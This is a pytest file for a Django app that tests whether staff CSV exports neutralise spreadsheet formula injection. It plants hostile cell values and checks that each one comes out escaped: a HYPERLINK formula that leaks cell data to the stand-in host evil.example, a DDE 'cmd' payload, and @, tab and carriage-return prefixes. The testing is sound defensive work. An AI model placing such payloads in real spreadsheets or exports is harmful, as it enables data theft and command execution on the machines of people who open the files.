"""Staff CSV exports neutralise cells a spreadsheet would run as a formula (OWASP CSV injection)."""

import csv
import datetime
import io

import pytest

from analytics import staff_stats
from catalog.models import Artist, Genre, Track
from streamapp.csv_export import csv_cell, csv_text
from tests.analytics import staff_world

RANGE = "from=2026-11-02&to=2026-11-15"
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Band")'


@pytest.fixture
def world(django_user_model, settings, monkeypatch):
    built = staff_world.build(django_user_model)
    Artist.objects.filter(name="Band").update(name=LINK)
    Track.objects.filter(title="Rock song").update(title="+1+cmd|' /C calc'!A0")
    Track.objects.filter(title="Both song").update(title="-2+3")
    Track.objects.filter(title="Jazz song").update(title="\tJazz song")
    Genre.objects.filter(name="Rock").update(name="@SUM(1+1)")
    Genre.objects.filter(name="Jazz").update(name="\rJazz")
    staff_world.roll_up(settings)
    monkeypatch.setattr(staff_stats, "site_today", lambda: datetime.date(2026, 11, 16))
    monkeypatch.setattr("analytics.forms_staff.site_today", lambda: datetime.date(2026, 11, 16))
    return built


def rows_of(staff_client, table: str) -> list[list[str]]:
    response = staff_client.get(f"/staff/analytics/csv/{table}/?{RANGE}")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


@pytest.mark.django_db
def test_staff_csv_neutralises_names_that_start_a_formula(staff_client, world):
    rock, both, jazz = world["tracks"]
    tracks = rows_of(staff_client, "top-tracks")
    assert tracks[1][:4] == ["1", str(rock.pk), "'+1+cmd|' /C calc'!A0", "'" + LINK]
    assert tracks[2][:4] == ["2", str(both.pk), "'-2+3", "'" + LINK]
    assert tracks[3][:4] == ["3", str(jazz.pk), "'\tJazz song", "'" + LINK]
    assert rows_of(staff_client, "top-artists")[1][2] == "'" + LINK
    genres = [row[2] for row in rows_of(staff_client, "top-genres")[1:]]
    assert sorted(genres) == ["'\rJazz", "'@SUM(1+1)"]
    # The figures next to them are written as they were.
    assert tracks[1][4:] == ["3", "2", "50.0", "9.3", "3", "0", "0.0"]


def test_csv_cell_keeps_numbers_and_plain_text():
    assert csv_cell(-12.5) == -12.5
    assert csv_cell(-3) == -3
    assert csv_cell("Band") == "Band"
    assert csv_cell("") == ""
    assert csv_cell("a=b") == "a=b"
    assert csv_text([["-1", -1, "=1+1"]]) == "'-1,-1,'=1+1\r\n"
